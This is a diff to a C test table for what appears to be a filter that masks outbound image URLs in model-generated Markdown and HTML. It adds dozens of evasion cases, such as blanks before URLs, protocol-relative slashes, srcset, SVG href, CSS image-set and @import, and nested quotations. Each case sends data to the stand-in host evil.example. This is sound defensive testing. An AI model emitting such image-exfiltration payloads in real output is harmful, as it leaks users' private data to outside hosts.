@@ -7,6 +7,7 @@
 #define EVIL "https://evil.example/"
 #define IMAGE "![x](" EVIL "p.png?q=" DATA ")"
 #define LINK "[x](" EVIL "?q=" DATA ")"
+#define DEEP "> > > > > > > > > > > > "
 #define ESC "\\u001b[2J" /* as JSON has it */
 #define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7"
 
@@ -129,6 +130,148 @@ static const row rows[] = {
      "so ![x]([masked: outward-image]) it is", 1, 2, SP_OK},
     {"one that passes carries nothing elsewhere", LISTS_AND_PASSES, "so " IMAGE " it is",
      "so ![x]([masked: unlisted-image]) it is", 1, 2, SP_OK},
+    {"a blank behind a quote", LISTS_IMAGES, "<img src=\\\" https://evil.example/l.png\\\"> so",
+     "<img src=\" [masked: unlisted-image]\"> so", 1, 1, SP_OK},
+    {"a line end behind an apostrophe", LISTS_IMAGES, "<img src='\\nhttps://evil.example/l.png'> so",
+     "<img src='\n[masked: unlisted-image]'> so", 1, 1, SP_OK},
+    {"a control character behind a quote", LISTS_IMAGES,
+     "<img src=\\\"\\u0001 https://evil.example/l.png\\\"> so",
+     "<img src=\"\x01 [masked: unlisted-image]\"> so", 1, 1, SP_OK},
+    {"a blank behind an angle bracket", LISTS_IMAGES, "![a](< https://evil.example/l.png>) so",
+     "![a](< [masked: unlisted-image]>) so", 1, 1, SP_OK},
+    {"a blank in a definition's brackets", LISTS_IMAGES, "![a]\\n\\n[a]: < https://evil.example/l.png>\\n",
+     "![a]\n\n[a]: < [masked: unlisted-image]>\n", 1, 1, SP_OK},
+    {"a blank before slashes", LISTS_IMAGES, "<img src=\\\" //evil.example/l.png\\\"> so",
+     "<img src=\" [masked: unlisted-image]\"> so", 1, 1, SP_OK},
+    {"no quote before slashes", LISTS_IMAGES, "<img src= //evil.example/l.png> so",
+     "<img src= [masked: unlisted-image]> so", 1, 1, SP_OK},
+    {"a bracket and a blank before slashes", LISTS_IMAGES, "![a]( //evil.example/l.png) so",
+     "![a]( [masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a bracket and a line end before slashes", LISTS_IMAGES, "![a](\\n//evil.example/l.png) so",
+     "![a](\n[masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a definition of slashes", LISTS_IMAGES, "![a]\\n\\n[a]: //evil.example/l.png\\n",
+     "![a]\n\n[a]: [masked: unlisted-image]\n", 1, 1, SP_OK},
+    {"a definition of slashes, without a blank", LISTS_IMAGES, "![a]\\n\\n[a]://evil.example/l.png\\n",
+     "![a]\n\n[a]:[masked: unlisted-image]\n", 1, 1, SP_OK},
+    {"CSS and a blank before slashes", LISTS_IMAGES,
+     "<p style=\\\"background: url( //evil.example/l.png)\\\"> so",
+     "<p style=\"background: url( [masked: unlisted-image])\"> so", 1, 1, SP_OK},
+    {"slashes second in a set", LISTS_IMAGES, "<img srcset=\\\"a.png 1x, //evil.example/l.png 2x\\\"> so",
+     "<img srcset=\"a.png 1x, [masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
+    {"slashes right behind the comma of a set", LISTS_IMAGES,
+     "<img srcset=\\\"a.png 1x,//evil.example/l.png 2x\\\"> so",
+     "<img srcset=\"a.png 1x,[masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
+    {"another quote in a set", LISTS_IMAGES,
+     "<img srcset=\\\"a.png?x='b> 1x, https://evil.example/l.png 2x\\\"> so",
+     "<img srcset=\"a.png?x='b> 1x, [masked: unlisted-image] 2x\"> so", 1, 1, SP_OK},
+    {"an image of SVG", LISTS_IMAGES, "<svg><image href=\\\"https://evil.example/l.png\\\"/></svg> so",
+     "<svg><image href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
+    {"one by its old name", LISTS_IMAGES,
+     "<svg><image xlink:href=\\\"https://evil.example/l.png\\\"/></svg> so",
+     "<svg><image xlink:href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
+    {"a part of SVG", LISTS_IMAGES, "<svg><use href=\\\"https://evil.example/l.png\\\"/></svg> so",
+     "<svg><use href=\"[masked: unlisted-image]\"/></svg> so", 1, 1, SP_OK},
+    {"a base of all addresses", LISTS_IMAGES, "<base href=\\\"https://evil.example/l.png\\\"> so",
+     "<base href=\"[masked: unlisted-image]\"> so", 1, 1, SP_OK},
+    {"a set of CSS", LISTS_IMAGES,
+     "<p style=\\\"background: image-set('https://evil.example/l.png' 1x)\\\"> so",
+     "<p style=\"background: image-set('[masked: unlisted-image]' 1x)\"> so", 1, 1, SP_OK},
+    {"second in a set of CSS", LISTS_IMAGES,
+     "<p style=\\\"background: image-set('a.png' 1x, 'https://evil.example/l.png' 2x)\\\"> so",
+     "<p style=\"background: image-set('a.png' 1x, '[masked: unlisted-image]' 2x)\"> so", 1, 1, SP_OK},
+    {"an old set of CSS", LISTS_IMAGES,
+     "<p style=\\\"background: -webkit-image-set( 'https://evil.example/l.png' 1x)\\\"> so",
+     "<p style=\"background: -webkit-image-set( '[masked: unlisted-image]' 1x)\"> so", 1, 1, SP_OK},
+    {"a style sheet of CSS", LISTS_IMAGES, "<style>@import \\\"https://evil.example/l.png\\\";</style> so",
+     "<style>@import \"[masked: unlisted-image]\";</style> so", 1, 1, SP_OK},
+    {"a link tag that began far back", LISTS_IMAGES,
+     "<link title=\\\"a text that is so long that nobody who looks back a hundred bytes can say any more "
+     "what had begun it at first\\\" href=\\\"https://evil.example/l.png\\\"> so",
+     "<link title=\"a text that is so long that nobody who looks back a hundred bytes can say any more what "
+     "had begun it at first\" href=\"[masked: unlisted-image]\"> so",
+     1, 1, SP_OK},
+    {"a link tag with a bracket in quotes", LISTS_IMAGES,
+     "<link title=\\\"> <a\\\" rel=icon href=\\\"https://evil.example/l.png\\\"> so",
+     "<link title=\"> <a\" rel=icon href=\"[masked: unlisted-image]\"> so", 1, 1, SP_OK},
+    {"a set that began far back", LISTS_IMAGES,
+     "<img "
+     "srcset=\\\"/"
+     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
+     "at-first 1x, https://evil.example/l.png 2x\\\"> so",
+     "<img "
+     "srcset=\"/"
+     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
+     "at-first 1x, [masked: unlisted-image] 2x\"> so",
+     1, 1, SP_OK},
+    {"slashes in a set that began far back", LISTS_IMAGES,
+     "<img "
+     "srcset=\\\"/"
+     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
+     "at-first, //evil.example/l.png 2x\\\"> so",
+     "<img "
+     "srcset=\"/"
+     "a-text-that-is-so-long-that-nobody-who-looks-back-a-hundred-bytes-can-say-any-more-what-had-begun-it-"
+     "at-first, [masked: unlisted-image] 2x\"> so",
+     1, 1, SP_OK},
+    {"data behind a blank and a quote", NOTHING,
+     "<img src=' https://evil.example/p?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz'> so",
+     "<img src=' [masked: outward-image]'> so", 1, 1, SP_OK},
+    {"data behind a blank and slashes", NOTHING,
+     "<img src=' //evil.example/p?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz'> so",
+     "<img src=' [masked: outward-image]'> so", 1, 1, SP_OK},
+    {"links of HTML", LISTS_IMAGES,
+     "<p>so <a href=\\\" https://evil.example/l.png\\\">x</a> <a class=\\\"b\\\" "
+     "href=\\\"https://evil.example/l.png\\\"> <a href=\\\"https://evil.example/l.png\\\" title=\\\"> "
+     "<link\\\">",
+     "<p>so <a href=\" https://evil.example/l.png\">x</a> <a class=\"b\" "
+     "href=\"https://evil.example/l.png\"> <a href=\"https://evil.example/l.png\" title=\"> <link\">",
+     0, 0, SP_OK},
+    {"links of Markdown", LISTS_IMAGES,
+     "[x](https://evil.example/l.png) [x]( <https://evil.example/l.png> \\\"t\\\") "
+     "<https://evil.example/l.png> and \\\"b\\\", https://evil.example/l.png or, https://evil.example/l.png "
+     "2 times",
+     "[x](https://evil.example/l.png) [x]( <https://evil.example/l.png> \"t\") <https://evil.example/l.png> "
+     "and \"b\", https://evil.example/l.png or, https://evil.example/l.png 2 times",
+     0, 0, SP_OK},
+    {"links behind a long text", LISTS_IMAGES,
+     "a text that is so long that nobody who looks back a hundred bytes can say any more what had begun it "
+     "at first, https://evil.example/l.png and \\\" https://evil.example/l.png\\\" and < "
+     "https://evil.example/l.png> and https://evil.example/l.png",
+     "a text that is so long that nobody who looks back a hundred bytes can say any more what had begun it "
+     "at first, https://evil.example/l.png and \" https://evil.example/l.png\" and < "
+     "https://evil.example/l.png> and https://evil.example/l.png",
+     0, 0, SP_OK},
+    {"a link with attributes", LISTS_IMAGES,
+     "<img srcset=\\\"a 1x, b 2x\\\"><a title=\\\"b, c\\\" href=\\\"https://evil.example/l.png\\\"> so, "
+     "https://evil.example/l.png",
+     "<img srcset=\"a 1x, b 2x\"><a title=\"b, c\" href=\"https://evil.example/l.png\"> so, "
+     "https://evil.example/l.png",
+     0, 0, SP_OK},
+    {"code", LISTS_IMAGES,
+     "x = f(a, // all\\n  b); // so\\na text that is so long that nobody who looks back a hundred bytes can "
+     "say any more what had begun it at first\\nlocation.href = \\\"https://evil.example/l.png\\\"; "
+     "call(\\\"a\\\", \\\"https://evil.example/l.png\\\"); //end\\n",
+     "x = f(a, // all\n  b); // so\na text that is so long that nobody who looks back a hundred bytes can "
+     "say any more what had begun it at first\nlocation.href = \"https://evil.example/l.png\"; call(\"a\", "
+     "\"https://evil.example/l.png\"); //end\n",
+     0, 0, SP_OK},
+    {"code with lists", LISTS_IMAGES,
+     "x = [\\\"a\\\", \\\"https://evil.example/l.png\\\"]; import \\\"https://evil.example/l.png\\\"; case "
+     "x: //so\\n  call(\\\"b\\\", 'https://evil.example/l.png');\\n",
+     "x = [\"a\", \"https://evil.example/l.png\"]; import \"https://evil.example/l.png\"; case x: //so\n  "
+     "call(\"b\", 'https://evil.example/l.png');\n",
+     0, 0, SP_OK},
+    {"a quotation that parts an image", LISTS_IMAGES, "> ![a](\\n> https://evil.example/l.png) so",
+     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a quotation that parts an image, slashes", LISTS_IMAGES, "> ![a](\\n> //evil.example/l.png) so",
+     "> ![a](\n> [masked: unlisted-image]) so", 1, 1, SP_OK},
+    {"a definition in a quotation", LISTS_IMAGES, "> ![a]\\n>\\n>> [a]:\\n>> https://evil.example/l.png\\n",
+     "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n", 1, 1, SP_OK},
+    {"a definition in a quotation, slashes", LISTS_IMAGES,
+     "> ![a]\\n>\\n>> [a]:\\n>> //evil.example/l.png\\n", "> ![a]\n>\n>> [a]:\n>> [masked: unlisted-image]\n",
+     1, 1, SP_OK},
+    {"a quotation that goes on", LISTS_IMAGES, "![a](\\n" DEEP DEEP DEEP DEEP DEEP "//evil.example/l.png) so",
+     "![a](\n" DEEP DEEP DEEP DEEP DEEP "[masked: unlisted-image]) so", 1, 1, SP_OK},
     {"links where images are listed", LISTS_IMAGES, "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>",
      "so [x](" EVIL ") and " EVIL " and <a href='" EVIL "'>", 0, 0, SP_OK},
     {"images where links are listed", LISTS_LINKS, "so ![x](" EVIL "l.png)", "so ![x](" EVIL "l.png)", 0, 0,
